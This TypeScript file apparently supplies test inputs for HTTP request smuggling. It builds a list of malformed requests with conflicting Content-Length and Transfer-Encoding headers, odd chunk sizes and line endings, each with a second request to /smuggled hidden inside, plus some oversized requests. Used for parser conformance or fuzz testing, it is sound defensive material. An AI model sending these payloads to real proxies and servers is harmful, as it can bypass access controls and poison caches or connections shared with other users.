// Requests that servers and proxies are known to have read in different ways, and those at the edges of the grammar.
const host = 'Host: a\r\n';
const post = `POST / HTTP/1.1\r\n${host}`;
const inner = 'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n';
const end = '\r\n0\r\n\r\n';

/** A request with these fields, and a body that is another request to whoever sees no body. */
const lengths = [
  '+5',
  '-1',
  '5,5',
  '5, 6',
  '0x5',
  '5 5',
  '',
  '99999999999999999999',
  '00000000000000000005',
  '1e1',
  ' 5',
  '5\t',
];
const codings = ['chunked', 'xchunked', 'chunked, chunked', 'gzip, chunked', 'chunked, gzip', 'gzip', 'identity', ''];
const odd = ['\tchunked', 'chunked ', 'chunked\x0b', '\x0bchunked', '"chunked"', 'chunked;a=b', ',chunked', 'chunked,'];
const sizes = [
  '5 ',
  ' 5',
  '0x5',
  '+5',
  '-5',
  '5;',
  '5;=',
  '5;a=',
  '5 ;a',
  '5;a = b',
  '10000000000000005',
  '',
  'g',
  '5\t',
];
const endings = [
  '5\nhello\r\n',
  '5\r\nhello\n',
  '5\rhello\r\n',
  '4\r\nhello\r\n',
  '6\r\nhello\r\n',
  '5;a\nb\r\nhello\r\n',
];
const separators = [' : 5', '\t: 5', ':5', ': 5 ', '\n : 5', ':\r\n 5', ' 5'];
const targets = [
  '*',
  '//',
  '/a b',
  '/\t',
  '/\x7f',
  '/\xff',
  '',
  'a',
  'a:1',
  'http://',
  'http:/a',
  '/a#b',
  'ftp://a/',
  '?a',
  '/\0',
];
const versions = [
  'HTTP/1.2',
  'HTTP/1.9',
  'HTTP/2.0',
  'HTTP/0.9',
  'HTTP/3.0',
  'HTTP/1.',
  'HTTP/11',
  'http/1.1',
  'HTTP/1.1 ',
  '',
];
const methods = [
  'get',
  'FROB',
  'G ET',
  'CONNECT',
  'TRACE',
  'PRI',
  'M-SEARCH',
  'GET\t',
  '',
  'G\u00c9T',
  'SOURCE',
  '"GET"',
];
const hosts = ['', 'a b', 'a, b', 'a/b', 'a:80', '[::1]:80', 'user@a', 'a\x80'];
const expects = ['100-continue', '100-Continue', '100-continue, x', 'x', '', '200-ok'];
const connections = ['close, keep-alive', 'keep-alive, close', 'close close', 'upgrade', 'CLOSE', 'closed', ',,close'];
const fields = [
  'A',
  ': b',
  'A b: c',
  ' A: b',
  'A\0: b',
  'A: b\0',
  'A: b\rc',
  'A(: b',
  'A: \x01',
  'A: \x7f',
  'A:\tb',
  '\xff: b',
];

export const smuggling: readonly string[] = [
  ...lengths.map((length) => `${post}Content-Length: ${length}\r\n\r\nhello${inner}`),
  ...[...codings, ...odd].map((coding) => `${post}Transfer-Encoding: ${coding}\r\n\r\n5\r\nhello${end}${inner}`),
  ...codings.map((coding) => `${post}Content-Length: 5\r\nTransfer-Encoding: ${coding}\r\n\r\n0\r\n\r\n${inner}`),
  ...codings.map((coding) => `${post}Transfer-Encoding: ${coding}\r\nContent-Length: 5\r\n\r\n0\r\n\r\n${inner}`),
  ...codings.map(
    (coding) => `${post}Transfer-Encoding: ${coding}\r\nTransfer-Encoding: chunked\r\n\r\n${end.slice(2)}`,
  ),
  ...sizes.map((size) => `${post}Transfer-Encoding: chunked\r\n\r\n${size}\r\nhello${end}${inner}`),
  ...endings.map((chunk) => `${post}Transfer-Encoding: chunked\r\n\r\n${chunk}0\r\n\r\n${inner}`),
  ...separators.map((separator) => `${post}Content-Length${separator}\r\n\r\nhello${inner}`),
  ...separators.map(
    (separator) => `${post}Transfer-Encoding${separator.replace('5', 'chunked')}\r\n\r\n0\r\n\r\n${inner}`,
  ),
  ...targets.map((target) => `GET ${target} HTTP/1.1\r\n${host}\r\n${inner}`),
  ...versions.map((version) => `GET / ${version}\r\n${host}\r\n${inner}`),
  ...methods.map((method) => `${method} / HTTP/1.1\r\n${host}\r\n${inner}`),
  ...hosts.map((name) => `GET / HTTP/1.1\r\nHost: ${name}\r\n\r\n${inner}`),
  ...expects.map((expect) => `${post}Expect: ${expect}\r\nContent-Length: 5\r\n\r\nhello${inner}`),
  ...connections.map((connection) => `${post}Connection: ${connection}\r\n\r\n${inner}`),
  ...fields.map((field) => `${post}${field}\r\nContent-Length: 5\r\n\r\nhello${inner}`),
  `${post}Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello${inner}`,
  `${post}Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello${inner}`,
  `GET / HTTP/1.1\r\n${host}${host}\r\n${inner}`,
  `GET / HTTP/1.1\r\n\r\n${inner}`,
  `GET / HTTP/1.0\r\n\r\n${inner}`,
  `POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
  `POST / HTTP/1.0\r\nConnection: keep-alive\r\nContent-Length: 5\r\n\r\nhello${inner}`,
  `GET /\r\n\r\n${inner}`,
  `GET / HTTP/1.1\n${host.replace('\r', '')}\n${inner}`,
  `GET / HTTP/1.1\r\n${host}\n${inner}`,
  `GET / HTTP/1.1\r\n${host}Upgrade: h2c\r\nConnection: upgrade\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 5\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n${inner}`,
  `${post}Transfer-Encoding: chunked\r\n\r\n0\r\nA : b\r\n\r\n${inner}`,
  `${post}Content-Length: 2000000\r\n\r\n`,
  `${post}Transfer-Encoding: chunked\r\n\r\n200000\r\n`,
  `${post}A: ${'a'.repeat(20_000)}\r\n\r\n`,
  `GET /${'a'.repeat(20_000)} HTTP/1.1\r\n${host}\r\n`,
  `${post}Transfer-Encoding: chunked\r\n\r\n1;${'a'.repeat(20_000)}\r\nx${end}`,
  `\r\n\r\n${inner}`,
  `\n${inner}`,
  `\r${inner}`,
];
